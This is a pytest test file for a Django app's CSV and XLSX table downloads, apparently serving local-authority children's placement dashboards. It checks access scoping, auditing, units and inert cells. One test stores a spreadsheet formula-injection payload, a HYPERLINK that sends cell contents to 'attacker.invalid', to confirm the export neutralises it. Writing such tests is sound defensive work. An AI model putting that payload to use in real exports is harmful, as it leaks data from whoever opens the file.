"""Every table of the KPI, supply, fostering capacity, residential occupancy, recruitment, benchmarking and
unmet-need ledger pages downloads as CSV and XLSX: from the page's own figures, scoped and audited like the
page, numbers as numbers with units in the headers, every cell inert."""

from __future__ import annotations

import csv
import datetime as dt
import io
import re

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from placements.models import FosteringRecruitmentMonth, InHouseHome, Setting
from sufficiency.authorities.models import AuditEvent
from sufficiency.core.csv import BOM
from tests.dashboards.conftest import register as dashboards_register  # noqa: F401 - a fixture
from tests.placements.finding.conftest import make_request, placement_finder  # noqa: F401

pytestmark = pytest.mark.django_db

#: Each page and one of its tables (the benchmarking table is shown only once national statistics are
#: held; its download answers from the same rows either way).
TABLES = {
    "placements:supply-overview": "vacancies",
    "placements:fostering-capacity": "households",
    "placements:residential-occupancy": "homes",
    "reports:fostering-recruitment": "stages",
    "reports:kpi-list": "kpis",
    "reports:kpi-benchmarking": "measures",
    "placements:finding-ledger": "months",
}
PAGES = list(TABLES)
SNAKE_CASE = re.compile(r"^[a-z0-9]+(_[a-z0-9]+)+$")
SHOWN_NUMBER = re.compile(r"^[+-]?(£[\d,.]+[mk]?|[\d,.]+%)$")  # "£41.83m", "20.7%": text, not a number


@pytest.fixture
def register(dashboards_register):  # noqa: F811 - the fixture imported above
    """The dashboards' hand-built register with a year of the recruitment funnel."""
    for month in range(4, 13):
        FosteringRecruitmentMonth.objects.create(
            authority=dashboards_register["walsall"],
            month=dt.date(2025, month, 1),
            route="in_house",
            enquiries=10,
            initial_visits=4,
            applications=2,
            approvals=1,
        )
    return dashboards_register


def _page(name: str, code: str = "335") -> str:
    return reverse(name, kwargs={"code": code})


def _download(name: str, code: str = "335") -> str:
    return f"{_page(name, code)}?download=csv&table={TABLES[name]}"


def _links(client, url: str) -> list[str]:
    body = client.get(url).content.decode()
    return sorted(
        {link.replace("&amp;", "&") for link in re.findall(r'href="([^"]*download=csv[^"]*)"', body)}
    )


def _rows(response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))


@pytest.mark.parametrize("name", PAGES)
def test_each_table_of_the_page_downloads_as_csv_and_xlsx_for_its_readers(client, la_user, register, name):  # noqa: F811
    client.force_login(la_user)
    links = _links(client, _page(name))
    if name != "reports:kpi-benchmarking":
        assert _download(name) in links, links
    for link in links or [_download(name)]:
        response = client.get(link)
        assert response.status_code == 200, link
        assert response["Content-Type"].startswith("text/csv")
        assert response.content.startswith(BOM.encode())
        assert re.match(r'attachment; filename="335-[a-z_-]+\.csv"', response["Content-Disposition"])
        rows = _rows(response)
        assert rows and all(rows[0]), rows[0]
        assert not [h for h in rows[0] if SNAKE_CASE.match(h)], rows[0]
        cells = [cell for row in rows for cell in row]
        assert not [c for c in cells if SHOWN_NUMBER.match(c) or "&#" in c or "&amp;" in c or "<" in c]
        xlsx = client.get(link.replace("download=csv", "download=xlsx"))
        assert xlsx.status_code == 200 and xlsx["Content-Type"].startswith("application/vnd.openxmlformats")
        sheet = load_workbook(io.BytesIO(xlsx.content), read_only=True).worksheets[0]
        assert list(next(sheet.iter_rows(values_only=True))) == rows[0]


@pytest.mark.parametrize("name", PAGES)
def test_another_authority_gets_404_for_the_download(client, la_user, other_la_user, register, name):  # noqa: F811
    link = _download(name)
    client.force_login(other_la_user)
    assert client.get(link).status_code == 404
    assert client.get(link.replace("download=csv", "download=xlsx")).status_code == 404
    # Its own page's download of the same table answers (scoped, not refused).
    assert client.get(_download(name, "333")).status_code == 200


def test_a_download_of_an_unknown_table_or_format_is_404(client, la_user, register):  # noqa: F811
    client.force_login(la_user)
    url = _page("placements:supply-overview")
    assert client.get(url, {"download": "csv", "table": "nope"}).status_code == 404
    assert client.get(url, {"download": "pdf", "table": "vacancies"}).status_code == 404


def test_a_board_member_downloads_the_kpis_and_the_ledger_but_not_the_households(
    client,
    la_user,
    board_member,
    register,  # noqa: F811
):
    client.force_login(la_user)
    households = _links(client, _page("placements:fostering-capacity"))[0]
    client.force_login(board_member)
    for name in ("reports:kpi-list", "placements:finding-ledger"):
        assert all(client.get(link).status_code == 200 for link in _links(client, _page(name)))
    assert client.get(households).status_code in (403, 404)


def test_each_download_is_audited_without_personal_data(client, la_user, register):  # noqa: F811
    client.force_login(la_user)
    link = next(
        link for link in _links(client, _page("placements:fostering-capacity")) if "households" in link
    )
    client.get(link)
    event = AuditEvent.objects.get(action="table.downloaded")
    assert (event.actor, event.authority.dfe_code) == (la_user, "335")
    assert event.object_id == "fostering-capacity:households" and event.detail["format"] == "csv"
    assert set(event.detail) == {"format", "rows"}


def test_the_kpi_download_holds_the_pages_values_with_their_units(client, la_user, register):  # noqa: F811
    client.force_login(la_user)
    body = client.get(_page("reports:kpi-list")).content.decode()
    shown = dict(re.findall(r'data-measure="([a-z0-9_]+)" data-value="([^"]*)"', body))
    rows = _rows(client.get(_links(client, _page("reports:kpi-list"))[0]))
    header = rows[0]
    assert header[2] == "Unit" and header[3] == "Value (in the unit)"
    by_name = {row[1]: row for row in rows[1:]}
    assert len(rows) - 1 == len(shown)
    units = {row[2] for row in rows[1:]}
    assert {"%", "per 10,000 children aged 0 to 17"} <= units
    assert any(unit.startswith("£") for unit in units)
    from sufficiency.reports.kpis import registry

    for key, value in shown.items():
        row = by_name[registry.get(key).name]
        assert (float(row[3]) if row[3] else None) == (float(value) if value else None), key


def test_the_ledger_downloads_name_their_measures_with_units_and_months_in_iso(
    client,
    la_user,
    register,
    make_request,  # noqa: F811
):
    make_request()
    make_request()
    client.force_login(la_user)
    end = f"{dt.date.today():%Y-%m}"
    table = _rows(
        client.get(_page("placements:finding-ledger"), {"download": "csv", "table": "months", "end": end})
    )
    assert all(re.match(r"^\d{4}-\d{2}$", row[0]) for row in table[1:])
    assert table[0][8:12] == [
        "Median days (days)",
        "Placed to plan (%)",
        "Fostering preferred, residential used",
        "Extra annual cost (£ a year)",
    ]
    whole = _rows(client.get(reverse("placements:finding-ledger-csv", kwargs={"code": "335"}), {"end": end}))
    assert whole[0][:3] == ["Month", "Kind of placement preferred", "Requests"]
    assert "Placed to plan (%)" in whole[0] and "Extra annual cost (£ a year)" in whole[0]
    assert not [h for h in whole[0] if SNAKE_CASE.match(h)]
    # The page's month table and the whole ledger agree month by month (one calculation).
    requests = {(row[0], row[1]): row[2] for row in table[1:]}
    assert requests and all(
        requests[key] == row[2] for row in whole[1:] if row and (key := (row[0], row[1])) in requests
    )


def test_the_residential_download_has_the_pages_homes_and_writes_their_names_inert(
    client,
    la_user,
    register,  # noqa: F811
):
    payload = '=HYPERLINK("http://attacker.invalid/?"&A1,"Open")'
    InHouseHome.objects.create(
        authority=register["walsall"],
        setting=Setting.objects.get(urn="SC0001"),
        name=payload,
        registered_places=4,
    )
    client.force_login(la_user)
    page = client.get(_page("placements:residential-occupancy"))
    link = next(link for link in _links(client, _page("placements:residential-occupancy")) if "homes" in link)
    rows = _rows(client.get(link))
    assert rows[0][:4] == ["Home", "Kind", "Ofsted URN", "Places"] and "Occupancy (%)" in rows[0]
    assert [row[0] for row in rows[1:]] == ["'" + payload]
    assert [row[3] for row in rows[1:]] == [str(r[3]) for r in page.context["home_rows"]]
    sheet = load_workbook(
        io.BytesIO(client.get(link.replace("download=csv", "download=xlsx")).content)
    ).worksheets[0]
    assert sheet["A2"].value == "'" + payload and sheet["A2"].data_type == "s"
